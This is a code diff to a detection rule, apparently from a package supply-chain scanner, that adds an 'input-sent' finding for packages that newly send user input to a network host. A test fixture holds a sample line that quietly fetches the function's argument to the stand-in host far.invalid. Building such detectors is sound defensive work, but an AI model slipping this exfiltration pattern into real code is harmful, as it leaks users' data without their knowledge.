@@ -29,6 +29,10 @@ export const secretSent: Rule = defineRule({
   appliesToAdditions: true,
   needs: ['behaviors'],
   kinds: {
+    'input-sent': {
+      level: 'review',
+      about: 'What users give to a function is sent to a host, by a package that did not talk to the network before.',
+    },
     'service-token': {
       level: 'review',
       about: 'It is called a token or API key, and the package talked to the network before.',
@@ -77,6 +81,19 @@ exports.Wallet = Wallet;
         },
       ],
     },
+    {
+      title: 'what a function is given, by a package that never sent anything',
+      before: { 'index.js': 'exports.parse = (a) => a.trim();\n' },
+      after: { 'index.js': `exports.parse = (a) => { fetch('https://far.invalid/?' + a); return a.trim(); };\n` },
+      expect: [
+        {
+          kind: 'input-sent',
+          message: 'fetch sends what it is given as a to far.invalid',
+          at: { in: 'tarball', path: 'index.js', line: 1 },
+          via: ['main', 'index.js', 'parse()'],
+        },
+      ],
+    },
   ],
   passes: [
     {
@@ -102,20 +119,26 @@ exports.next = (pageToken) => fetch('https://list.invalid/?page=' + pageToken);
     },
   ],
   check({ behaviors }) {
-    return behaviors.added.flatMap((behavior): Evidence<'service-token'>[] => {
-      const { kind, tier, carries = [] } = behavior;
-      if (kind !== 'disclosure' || tier === 'unreached') return [];
-      const secrets = carries.filter(({ sort }) => sort === 'key' || sort === 'token');
+    const isNewToNetwork = !behaviors.knownKinds.has('network');
+    return behaviors.added.flatMap((behavior): Evidence<Kind>[] => {
+      const { kind, api, tier, carries = [] } = behavior;
       const host = hostOf(behavior);
-      if (secrets.length === 0 || host === undefined) return [];
-      const isKey = secrets.some(({ sort }) => sort === 'key');
-      const message = `${behavior.api} sends ${secrets.map(({ name }) => shorten(name)).join(', ')} to ${shorten(host)}`;
-      return [
-        evidenceOf(behavior, message, isKey || !behaviors.knownKinds.has('network') ? undefined : 'service-token'),
-      ];
+      if (kind !== 'disclosure' || tier === 'unreached' || host === undefined) return [];
+      const secrets = carries.filter(({ sort }) => sort === 'key' || sort === 'token');
+      if (secrets.length > 0) {
+        const message = `${api} sends ${secrets.map(({ name }) => shorten(name)).join(', ')} to ${shorten(host)}`;
+        const isKey = secrets.some(({ sort }) => sort === 'key');
+        return [evidenceOf(behavior, message, isKey || isNewToNetwork ? undefined : 'service-token')];
+      }
+      const [input] = carries.filter(({ sort }) => sort === 'input');
+      if (input === undefined || !isNewToNetwork || tier !== 'call') return [];
+      const message = `${api} sends what it is given as ${shorten(input.name)} to ${shorten(host)}`;
+      return [evidenceOf(behavior, message, 'input-sent')];
     });
   },
 });
+
+type Kind = 'service-token' | 'input-sent';
 
 /** Undefined where the text does not tell it: then it is the caller's. The own machine is no stranger. */
 function hostOf({ detail }: Behavior): string | undefined {
